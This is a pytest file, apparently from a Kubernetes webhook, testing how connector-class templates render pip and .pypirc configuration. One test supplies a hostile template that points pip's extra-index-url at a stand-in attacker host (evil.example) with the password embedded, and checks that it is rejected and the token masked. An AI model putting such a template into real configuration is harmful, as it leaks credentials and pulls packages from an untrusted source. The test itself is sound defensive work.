"""`configure` with a class: its templates reach clients outside as they reach Pods."""

import configparser
from typing import Any

import pytest

from sidecar.contract.secret import Secret
from webhook import names
from webhook.clients.outside import Outside, outside_files
from webhook.command.outside_class import files_of_class

TOKEN = "eyJ.canary.token"
HOST = "c-pypi.team.svc.cluster.local"
OUTSIDE = Outside(f"http://{HOST}/", "team-pypi", Secret(TOKEN))
INDEX = f"http://team-pypi:{TOKEN}@{HOST}/simple/"


def connector(class_name: str = "pypi-strict", **spec: Any) -> dict[str, Any]:
    chosen = {"connectorClassName": class_name, "address": "https://registry.example", **spec}
    return {"kind": "Connector", "metadata": {"name": "pypi", "namespace": "team"}, "spec": chosen}


def strict(*configurations: dict[str, Any], **spec: Any) -> dict[str, Any]:
    return {
        "apiVersion": names.API_VERSION,
        "kind": "ConnectorClass",
        "metadata": {"name": "pypi-strict"},
        "spec": {"configurations": list(configurations), **spec},
    }


def texts(manifest: dict[str, Any], found: dict[str, Any] | None) -> tuple[dict[str, str], list[str]]:
    files, warnings = files_of_class(OUTSIDE, manifest, found, "/home/me")
    return {name: text.reveal() for name, text in files.items()}, warnings


DOCUMENTED = {name: text.reveal() for name, text in outside_files(OUTSIDE).items()}


@pytest.mark.parametrize(
    "found",
    [
        None,
        {"metadata": {"name": "pypi"}, "spec": {}},
        {"metadata": {"name": "pypi"}, "spec": {"configurations": [{"name": "pipconf", "file": "pip.conf"}]}},
    ],
)
def test_without_templates_the_files_are_the_documented_ones(found: dict[str, Any] | None) -> None:
    assert texts(connector("pypi"), found) == (DOCUMENTED, [])


def test_an_administrators_options_stand_beside_the_documented_lines() -> None:
    data = {"pip.conf": "[global]\nindex-url = {{ index_url }}\ntimeout = 90\nno-binary = :all:\n"}
    files, warnings = texts(connector(), strict({"name": "pipconf", "data": data}))
    assert warnings == []
    parsed = configparser.ConfigParser(interpolation=None)
    parsed.read_string(files["pip.conf"])
    expected = {"timeout": "90", "index-url": INDEX, "no-binary": ":all:"}
    assert dict(parsed["global"]) == expected
    assert dict(parsed["install"]) == {"trusted-host": HOST}
    assert files[".pypirc"] == DOCUMENTED[".pypirc"]


def test_a_file_of_the_classes_own_is_among_them() -> None:
    data = {"constraints.txt": "flask<4 # {{ connector.name }} in {{ directory }}\n"}
    files, warnings = texts(connector(), strict({"name": "limits", "data": data}))
    assert (files["constraints.txt"], warnings) == ("flask<4 # pypi in /home/me\n", [])


def test_a_template_that_leads_elsewhere_is_left_out_and_shows_no_token() -> None:
    second = {"pip.conf": "[global]\nextra-index-url = https://evil.example/{{ password }}/\n"}
    quoted = {"notes.txt": "https://evil.example/{{ password }}/\n"}
    found = strict({"name": "pipconf", "data": second}, {"name": "notes", "data": quoted})
    files, warnings = texts(connector(), found)
    assert files == DOCUMENTED
    assert "names another source of packages" in warnings[0]
    assert "https://evil.example/***/" in warnings[1]
    assert TOKEN not in str(warnings)


def test_a_connector_that_its_class_refuses_says_so() -> None:
    allowed = {"name": "access", "values": ["read"]}
    params = [{"name": "access", "value": "readwrite"}]
    files, warnings = texts(connector(params=params), strict(params=[allowed]))
    assert files == DOCUMENTED
    assert "the Connector cannot be used as it is" in warnings[0]
